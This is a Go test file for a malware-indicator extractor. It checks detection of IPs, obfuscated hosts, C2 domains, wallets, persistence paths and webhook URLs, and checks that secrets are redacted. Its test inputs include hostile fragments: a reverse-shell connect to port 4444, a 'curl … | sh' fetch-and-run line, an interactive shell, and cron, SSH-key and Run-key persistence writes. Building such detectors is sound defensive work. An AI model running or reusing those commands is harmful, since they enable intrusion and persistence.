package detect

import (
	"encoding/hex"
	"slices"
	"strings"
	"testing"

	"kingsnake/finding"
	"kingsnake/finding/redact"
)

func found(script string) []string {
	var out []string
	for _, i := range Indicators([]redact.Result{redact.Text([]byte(script))}) {
		out = append(out, string(i.Kind)+" "+i.Value)
	}
	return out
}

func TestIndicators(t *testing.T) {
	for _, test := range []struct {
		script string
		want   []string
	}{
		{`s.connect(("203.0.113.7", 4444))`, []string{"ip 203.0.113.7", "port 203.0.113.7:4444"}},
		{`x = "203.0.113.7:8080"`, []string{"ip 203.0.113.7", "port 203.0.113.7:8080"}},
		{`get("https://a.example/x?y=1")`, []string{"url https://a.example/x?y=1", "domain a.example"}},
		{`get("http://3405803783/x")`, []string{"url http://3405803783/x", "ip 203.0.113.7"}},
		{`get("http://0xcb.0x00.0x71.0x07/")`, []string{"url http://0xcb.0x00.0x71.0x07/", "ip 203.0.113.7"}},
		{`get("http://0xcb007107/")`, []string{"url http://0xcb007107/", "ip 203.0.113.7"}},
		{`get("http://[2001:db8::7]:80/a")`, []string{"url http://[2001:db8::7]:80/a", "ip 2001:db8::7"}},
		{`c("2001:db8::7")`, []string{"ip 2001:db8::7"}},
		{`h = "cnc.example.org"`, []string{"domain cnc.example.org"}},
		{`h = "c2.example.com:4444"`, []string{"domain c2.example.com"}},
		{`h = "vww6ybal4bd7szmgncyruucpgfkqahzddi37ktceo3ah7ngmcopnpyyd.onion"`, []string{"domain vww6ybal4bd7szmgncyruucpgfkqahzddi37ktceo3ah7ngmcopnpyyd.onion"}},
		{`m = "send to someone@mail.example now"`, []string{"email someone@mail.example"}},
		{`os.system("id")`, nil}, // too short to look for
		{`os.system("uname -a  > /tmp/o")`, []string{"command uname -a > /tmp/o", "path /tmp/o"}},
		{`subprocess.run(["/bin/sh", "-i"])`, []string{"command /bin/sh"}},
		{`c = "curl -s http://203.0.113.7/x | sh"`, []string{"url http://203.0.113.7/x", "ip 203.0.113.7", "command curl -s http://203.0.113.7/x | sh"}},
		{`open("/etc/cron.d/a", "w")`, []string{"path /etc/cron.d/a"}},
		{`open("~/.ssh/authorized_keys")`, []string{"path ~/.ssh/authorized_keys"}},
		{`OpenKey(HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run")`,
			[]string{`registry Software\Microsoft\Windows\CurrentVersion\Run`}},
		{`os.system("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v a")`, []string{
			`registry HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce`, `command reg add HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce /v a`}},
		{`OpenKey(HKEY_LOCAL_MACHINE, r"SOFTWARE\Python\PythonCore\3.9\InstallPath")`, nil},
		{`w = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"`, []string{"wallet 1BoatSLRHtKNngkdXEeobR76b53LETtpyT"}},
		{`w = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"`, []string{"wallet bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"}},
		{`w = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"`, []string{"wallet 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"}},
	} {
		if got := found(test.script); !slices.Equal(got, test.want) && len(got)+len(test.want) > 0 {
			t.Errorf("%s: %q, want %q", test.script, got, test.want)
		}
	}
}

func TestServicesAreNamedWithoutTheirSecrets(t *testing.T) {
	for script, want := range map[string]string{
		`u = "https://discord.com/api/webhooks/123456789012345678/` + strings.Repeat("aB3-", 17) + `"`: "service discord webhook 123456789012345678",
		`u = "https://hooks.slack.com/services/T0AB12CD3/B0AB12CD3/` + strings.Repeat("x9", 12) + `"`:  "service slack webhook T0AB12CD3",
	} {
		if got := found(script); !slices.Contains(got, want) {
			t.Errorf("%q, want %q", got, want)
		}
		for _, s := range found(script) {
			if strings.HasPrefix(s, "service") && (strings.Contains(s, "aB3") || strings.Contains(s, "x9x9")) {
				t.Errorf("%q keeps the secret", s)
			}
		}
	}
}

func TestNoIndicatorIsSeenWhereThereIsNone(t *testing.T) {
	for _, script := range []string{
		"import os\nos.path.join(a, os.name)", `__version__ = "1.2.3.4"`, `version = '10.0.0.1'`, `ua = "Chrome/74.0.3729.131"`,
		`"127.0.0.1"`, `"0.0.0.0"`, `"1.2.3"`, `"300.1.2.3"`, `"1.2.3.4.5"`, `x = "os.path"`, `x = "setup.py"`, `x = "run.sh"`, `x = "self.id"`,
		`x = "README.md"`, `x = "libfoo.so"`, `open("data.json")`, `t = "12:30:45"`, `m = "00:15:5d:00:07:34"`, `a[1::2]`, `x = "a.b"`,
		`w = "1BoatSLRHtKNngkdXEeobR76b53LETtpyU"`, `w = "0x0000000000000000000000000000000000000000"`, `w = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1Beaed"`,
		`w = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5"`, `open("/usr/share/doc/x")`, `x = "python is fun"`, `logging.info("run")`,
		"",
	} {
		if got := found(script); len(got) > 0 {
			t.Errorf("%s: %q", script, got)
		}
	}
}

func TestIndicatorsAreBoundedAndEachOnce(t *testing.T) {
	var b strings.Builder
	for i := range 1000 {
		b.WriteString("x = 'http://h" + strings.Repeat("a", i%200) + ".example/'\n")
	}
	count := map[string]int{}
	for _, s := range found(b.String()) {
		kind, _, _ := strings.Cut(s, " ")
		count[kind]++
		count[s]++
		if count[s] > 1 {
			t.Errorf("%s twice", s)
		}
	}
	if count["url"] != finding.MaxIndicators || count["domain"] > finding.MaxIndicators {
		t.Errorf("%d URLs, %d domains", count["url"], count["domain"])
	}
}

func TestKeccak(t *testing.T) {
	for in, want := range map[string]string{
		"":    "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470",
		"abc": "4e03657aea45a94fc7d47ba826c8d667c0d1e6e33a64a036ec44f58fa12d6c45",
	} {
		if got := keccak256([]byte(in)); hex.EncodeToString(got[:]) != want {
			t.Errorf("%q: %x", in, got)
		}
	}
}

func TestMoneroAddresses(t *testing.T) {
	// An address is made here: network byte, two keys, checksum.
	data := make([]byte, 65)
	data[0] = 18
	for i := 1; i < len(data); i++ {
		data[i] = byte(i * 7)
	}
	sum := keccak256(data)
	data = append(data, sum[:4]...)
	var s string
	for len(data) > 0 {
		n := min(8, len(data))
		width := []int{0, 2, 3, 5, 6, 7, 9, 10, 11}[n]
		var v uint64
		for _, b := range data[:n] {
			v = v<<8 | uint64(b)
		}
		digits := make([]byte, width)
		for i := width - 1; i >= 0; i-- {
			digits[i] = base58[v%58]
			v /= 58
		}
		s += string(digits)
		data = data[n:]
	}
	if len(s) != 95 || !monero(s) {
		t.Fatalf("%s of %d digits is refused", s, len(s))
	}
	if monero(s[:94]+"1") && monero(s[:94]+"2") {
		t.Error("the checksum is not looked at")
	}
	if got := found("w = '" + s + "'"); !slices.Contains(got, "wallet "+s) {
		t.Errorf("%q", got)
	}
}

func FuzzIndicators(f *testing.F) {
	for _, seed := range []string{
		`s.connect(("203.0.113.7", 4444))`, `x = "http://0xcb007107/[redacted:token:abcdef01]"`, `"2001:db8::7"`, `os.system("curl -s x.example | sh")`,
		`b"\xff\xfe"`, `"1BoatSLRHtKNngkdXEeobR76b53LETtpyT"`, `'''/etc/cron.d/a`, `f"http://{h}/"`, `"a@b.example"`,
	} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		count := map[finding.Kind]int{}
		seen := map[finding.Indicator]bool{}
		for _, i := range Indicators([]redact.Result{redact.Text(text)}) {
			count[i.Kind]++
			if seen[i] || i.Value == "" || len(i.Value) > maxIndicator || count[i.Kind] > finding.MaxIndicators {
				t.Fatalf("%+v", i)
			}
			seen[i] = true
			if d := i.Defanged(); strings.ContainsAny(d, "\n\x1b") || strings.Contains(strings.ToLower(d), "http://") && i.Kind == finding.URL && strings.HasPrefix(strings.ToLower(i.Value), "http") && strings.Count(strings.ToLower(i.Value), "http://") == 1 {
				t.Fatalf("%q is not defanged", d)
			}
		}
	})
}
